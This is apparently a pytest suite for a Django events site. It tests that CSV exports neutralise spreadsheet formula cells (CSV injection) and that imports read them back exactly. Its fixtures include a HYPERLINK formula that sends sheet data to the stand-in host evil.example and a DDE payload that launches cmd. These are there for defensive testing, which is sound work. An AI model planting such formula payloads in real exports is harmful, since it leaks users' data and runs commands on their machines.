"""CSV cells a spreadsheet would run as formulas are neutralised, and read back as they were stored.

A cell starting with =, +, -, @, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets (OWASP, CSV Injection): a title
`=HYPERLINK("https://evil.example/?"&A1, "source")` would send the sheet's data
away. Every CSV the site writes (the API, the admin's action, export_events;
on PostgreSQL the database's COPY as well) puts an apostrophe before such a
cell, which spreadsheets show as the text after it; numbers (coordinates, the
Goldstein score) stay numbers. `csv_raw=true` writes the values as stored. The
admin's CSV import takes the apostrophe off again, so a round trip is exact
for any text, which hypothesis checks. Both databases: SQLite, and PostgreSQL
with DATABASE_URL set.
"""

import csv
import io
import os

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import connection
from django.urls import reverse
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from events import postgres, shape
from events.admin.upload import csv_to_document
from events.dataset import event_to_dict, import_document
from events.exports import FORMATS
from events.models import Event
from events.shape import FORMULA_TRIGGERS, neutralise, restore
from tests.demo import dataset, event_record

pytestmark = pytest.mark.django_db

SETTINGS = settings(
    max_examples=int(os.environ.get("HYPOTHESIS_EXAMPLES", "60")),
    deadline=None,
    derandomize=bool(os.environ.get("CI")),
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1, "source")'


def formula_event(**fields):
    """A published event whose every free text opens a formula, in a place with a negative longitude."""
    record = event_record(
        "formula-talks",
        title=HYPERLINK,
        summary="+1 delegation",
        type="diplomats.expelled",  # Goldstein -7.0
        location={"name": "@Riyadh", "country": "SAU", "lat": -24.7136, "lon": -3.7},
        sources=[
            {
                "url": "https://example.org/talks",
                "title": "-2+3 talks",
                "publisher": "\tWire",
                "published": "2025-02-19",
                "quote": "\r=cmd|' /C calc'!A0",
                "claimed_by": None,
            },
            {
                "url": "https://example.org/z",
                "title": "'=already quoted",
                "publisher": "''@twice",
                "published": None,
                "quote": "'plain, not a formula",
                "claimed_by": None,
            },
        ],
    )
    record.update(fields)
    return record


def csv_text(client, query=""):
    response = client.get(f"/api/v1/events/export/?format=csv{query}")
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content).decode("utf-8")


def row_of(text, event_id="formula-talks"):
    [row] = [row for row in csv.DictReader(io.StringIO(text)) if row["id"] == event_id]
    return row


def generic_road(fmt_stream):
    """The export as every database but PostgreSQL writes it."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(postgres, "on_postgresql", lambda events: False)
        return "".join(fmt_stream())


def assert_both_roads_agree(raw=False):
    if connection.vendor != "postgresql":
        return
    events = Event.objects.chronological()
    fast = "".join(FORMATS["csv"].stream(events, raw=raw))
    assert fast == generic_road(lambda: FORMATS["csv"].stream(events, raw=raw))


# ---------------------------------------------------------------- the rule


def test_a_value_opening_a_formula_gets_one_apostrophe_and_any_other_none():
    assert [neutralise(value) for value in ["=1+2", "+1", "-2", "@SUM(A1)", "\tx", "\rx"]] == [
        "'=1+2",
        "'+1",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    assert [neutralise(value) for value in ["", "Talks", " =1", "\n=1", "'quoted'", "''", "1-2", "a=b"]] == [
        "",
        "Talks",
        " =1",
        "\n=1",
        "'quoted'",
        "''",
        "1-2",
        "a=b",
    ]
    # Apostrophes then a trigger: one more, so that the apostrophe the export adds is always the one taken off.
    assert [neutralise(value) for value in ["'=1", "''+1"]] == ["''=1", "'''+1"]


@SETTINGS
@given(st.text(alphabet=st.sampled_from(["'", *FORMULA_TRIGGERS, "a", " ", "1"])) | st.text())
@example("'")
@example("'=")
def test_restore_gives_back_every_value_neutralise_was_given(value):
    written = neutralise(value)
    assert restore(written) == value
    assert written[:1] not in FORMULA_TRIGGERS  # no cell it writes opens a formula


# ---------------------------------------------------------------- the exports


def test_the_csv_export_puts_an_apostrophe_before_each_text_that_opens_a_formula(client, demo):
    import_document(dataset(formula_event()))
    row = row_of(csv_text(client))
    assert {column: row[column] for column in ("title", "summary", "location_name", "source_urls")} == {
        "title": "'" + HYPERLINK,
        "summary": "'+1 delegation",
        "location_name": "'@Riyadh",
        "source_urls": "https://example.org/talks | https://example.org/z",
    }
    # A list's cell opens with its first item; the others follow " | ", inside the cell.
    assert row["source_titles"] == "'-2+3 talks | '=already quoted"
    assert row["publishers"] == "'\tWire | ''@twice"
    assert row["quotes"] == "'\r=cmd\\|' /C calc'!A0 | 'plain, not a formula"
    # Numbers are numbers: a negative longitude or Goldstein score is not a formula.
    assert (row["location_lat"], row["location_lon"], row["goldstein"]) == ("-24.7136", "-3.7", "-7.0")
    assert_both_roads_agree()


def test_csv_raw_writes_every_value_as_stored(client, demo):
    import_document(dataset(formula_event()))
    row = row_of(csv_text(client, "&csv_raw=true"))
    assert (row["title"], row["summary"], row["location_name"]) == (HYPERLINK, "+1 delegation", "@Riyadh")
    assert row["publishers"] == "\tWire | ''@twice"
    assert csv_text(client, "&csv_raw=false") == csv_text(client)
    assert csv_text(client, "&csv_raw=") == csv_text(client)
    assert_both_roads_agree(raw=True)


def test_values_that_open_no_formula_are_written_alike_with_and_without_csv_raw(client, demo):
    assert csv_text(client) == csv_text(client, "&csv_raw=true")


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("format=csv&csv_raw=yes", "'yes' is not true or false"),
        ("format=json&csv_raw=true", "only with format=csv or csv-excel: json is always written as stored"),
        ("format=ics&csv_raw=false", "only with format=csv or csv-excel: ics is always written as stored"),
        ("format=xlsx&csv_raw=true", "only with format=csv or csv-excel: xlsx is always written as stored"),
    ],
)
def test_a_bad_csv_raw_is_a_400_naming_it(client, demo, query, message):
    response = client.get(f"/api/v1/events/export/?{query}")
    assert response.status_code == 400
    assert response.json() == {"csv_raw": [message]}


def test_the_admins_csv_action_neutralises_too(admin_client, demo):
    import_document(dataset(formula_event()))
    response = admin_client.post(
        reverse("admin:events_event_changelist"), {"action": "export_csv", "_selected_action": ["formula-talks"]}
    )
    assert response.status_code == 200
    row = row_of(b"".join(response.streaming_content).decode("utf-8"))
    assert (row["title"], row["goldstein"]) == ("'" + HYPERLINK, "-7.0")


def test_export_events_neutralises_unless_told_csv_raw(demo, tmp_path):
    import_document(dataset(formula_event()))
    target = tmp_path / "events.csv"
    call_command("export_events", "--format", "csv", "--type", "diplomats.expelled", str(target))
    assert row_of(target.read_text(encoding="utf-8"))["title"] == "'" + HYPERLINK
    call_command("export_events", "--format", "csv", "--csv-raw", "--type", "diplomats.expelled", str(target))
    assert row_of(target.read_text(encoding="utf-8"))["title"] == HYPERLINK
    with pytest.raises(CommandError, match="--csv-raw: only with --format csv"):
        call_command("export_events", "--format", "json", "--csv-raw", str(target))


# ---------------------------------------------------------------- reading it back


def stored_texts(record):
    """The free texts of a record in the dataset shape, by where they are."""
    texts = {"title": record["title"], "summary": record["summary"], "location": record["location"]["name"]}
    for source in record["sources"]:
        texts.update({f"{source['url']} {key}": source[key] for key in ("title", "publisher", "quote")})
    return texts


def test_the_admin_import_reads_a_neutralised_export_back_unchanged(admin_client, demo):
    import_document(dataset(formula_event()))
    stored = event_to_dict(Event.objects.with_dataset_relations().get(pk="formula-talks"))
    [read] = [event for event in csv_to_document(csv_text(admin_client))["events"] if event["id"] == "formula-talks"]
    assert stored_texts(read) == stored_texts(stored)
    assert (read["location"]["lat"], read["location"]["lon"]) == (-24.7136, -3.7)
    # Uploaded to the admin's import, the export changes nothing.
    upload = SimpleUploadedFile("events.csv", csv_text(admin_client).encode())
    response = admin_client.post(reverse("admin:events_event_import"), {"file": upload})
    assert response.context["problems"] == []
    summary = response.context["preview"].summary
    assert (summary.created["events"], summary.updated["events"], summary.unchanged["events"]) == (0, 0, 18)


# Text as curators may write it, opening a formula or starting with apostrophes more often than not.
openings = st.sampled_from(["", "'", "''", *FORMULA_TRIGGERS, "'=", "''-", " ", "|"])
texts = st.builds(
    lambda opening, rest: opening + rest,
    openings,
    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=12),
)


def test_any_text_survives_a_round_trip_through_the_csv(client, db):
    import_document(dataset())

    @SETTINGS
    @given(title=texts, summary=texts, place=texts, source_title=texts, publisher=texts, quote=texts)
    def check(title, summary, place, source_title, publisher, quote):
        title = title if title.strip() else "=" + title  # a title may not be blank
        place = place if place.strip() else "@" + place  # nor a place's name
        record = event_record(
            "round-trip",
            title=title,
            summary=summary,
            location={"name": place, "country": None, "lat": -1.5, "lon": -0.25},
        )
        record["sources"][0].update(title=source_title, publisher=publisher, quote=quote)
        Event.objects.filter(pk="round-trip").delete()
        import_document(dataset(record))
        stored = event_to_dict(Event.objects.with_dataset_relations().get(pk="round-trip"))

        text = "".join(FORMATS["csv"].stream(Event.objects.chronological()))
        [read] = csv_to_document(text)["events"]
        assert stored_texts(read) == stored_texts(stored)
        row = row_of(text, "round-trip")
        assert all(row[column][:1] not in FORMULA_TRIGGERS for column in shape.FREE_TEXT_COLUMNS)
        if connection.vendor == "postgresql":
            assert text == generic_road(lambda: FORMATS["csv"].stream(Event.objects.chronological()))

    check()
